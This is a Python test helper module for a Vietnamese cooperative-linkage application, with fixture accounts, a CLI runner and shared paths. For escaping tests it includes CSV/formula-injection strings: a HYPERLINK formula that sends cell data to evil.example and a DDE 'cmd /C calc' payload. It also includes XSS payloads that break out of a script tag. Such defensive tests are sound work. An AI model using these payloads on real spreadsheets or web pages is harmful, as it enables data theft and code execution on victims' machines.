"""What many test modules share: the fixtures' folders, the accounts of the Bắc Kạn fixture, and the
`linkage` command run as another program runs it. Test modules import from here, never from each other."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

from sqlalchemy.engine import Engine

from linkage.accounts.users import Actor

HERE = Path(__file__).parent
FIXTURE = HERE / "fixtures" / "bac_kan"  # hand-computed figures (tests/test_coverage.py)
TWO_MAPS = HERE / "fixtures" / "two_maps"  # records given on either map or both
WORKER = HERE / "concurrency_worker.py"  # a second process that writes while a test does

# Accounts over the Bắc Kạn fixture: district 058 holds cooperative C1, raw material area A1 and
# linkage L1; district 061 holds C4, C5 and linkage L4.
ADMIN = Actor("admin", "admin")
PLANNER_VN = Actor("minh", "planner", "VN")
PLANNER_06 = Actor("hoa", "planner", "06")
PLANNER_01 = Actor("tuan", "planner", "01")
OFFICER_058 = Actor("lan", "officer", "058")
C1_OFFICE = Actor("xa_pq", "officer", "01849", unit_map="2025-07")  # C1's commune today: it verifies C1
OFFICER_061 = Actor("son", "officer", "061")
COOP_C1 = Actor("htx_c1", "cooperative", cooperative_code="C1")
COOP_C5 = Actor("htx_c5", "cooperative", cooperative_code="C5")

# Names a spreadsheet or a browser would run if they were not shielded or escaped.
NAMES = {
    "K1": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "K2": "+1+cmd|' /C calc'!A0",
    "K3": "-2+3",
    "K4": "@SUM(A1:A9)",
    "K5": "''=two quotes",
    "K6": "'HTX có dấu nháy",
    "K7": 'HTX Nà Phặc <b>đậm</b> & "Quê"',
}

HOSTILE = "<img src=x onerror=alert(1)>"  # runs in a browser that is given it as HTML
BREAKOUT = "</script><script>alert(2)</script>"  # leaves a script block it is pasted into


def hostile_folder(tmp_path: Path) -> Path:
    """Exchange files whose names would run in a graph page if they were not escaped."""
    folder = tmp_path / "hostile"
    folder.mkdir()
    files = {
        "cooperatives": f'code,name,commune_code\nK1,"{HOSTILE}",01849\nK2,HTX Nông Thượng,01852',
        "buyers": f"code,name,kind\nB1,{BREAKOUT},trader",
        "linkages": 'code,name,product_code,started_on\nL1,=HYPERLINK("http://x"),RICE,2022-01-01',
        "linkage_parties": "linkage_code,party_type,party_code,is_lead\nL1,cooperative,K1,yes\nL1,buyer,B1,",
    }
    for name, text in files.items():
        (folder / f"{name}.csv").write_text(text + "\n", encoding="utf-8")
    return folder


def linkage(*args: str, env: dict[str, str] | None = None, stdin: str = "") -> subprocess.CompletedProcess[str]:
    """The command line in its own process, in English unless `env` says otherwise."""
    return subprocess.run(
        [sys.executable, "-m", "linkage", *args],
        input=stdin,
        capture_output=True,
        text=True,
        env={**os.environ, "LINKAGE_LANG": "en", **(env or {})},
        timeout=300,
    )


def url(engine: Engine) -> str:
    """The database URL a command is given, password included."""
    return engine.url.render_as_string(hide_password=False)


def sign_in_limit() -> tuple[int, int]:
    """deploy/nginx.conf's limit on sign-in posts per address: (rate a minute, burst answered at once)."""
    config = (Path(__file__).resolve().parent.parent / "deploy" / "nginx.conf").read_text(encoding="utf-8")
    (rate,) = re.findall(r"zone=linkage_sign_in:\S+ rate=(\d+)r/m;", config)
    (burst,) = re.findall(r"limit_req zone=linkage_sign_in burst=(\d+) nodelay;", config)
    return int(rate), int(burst)
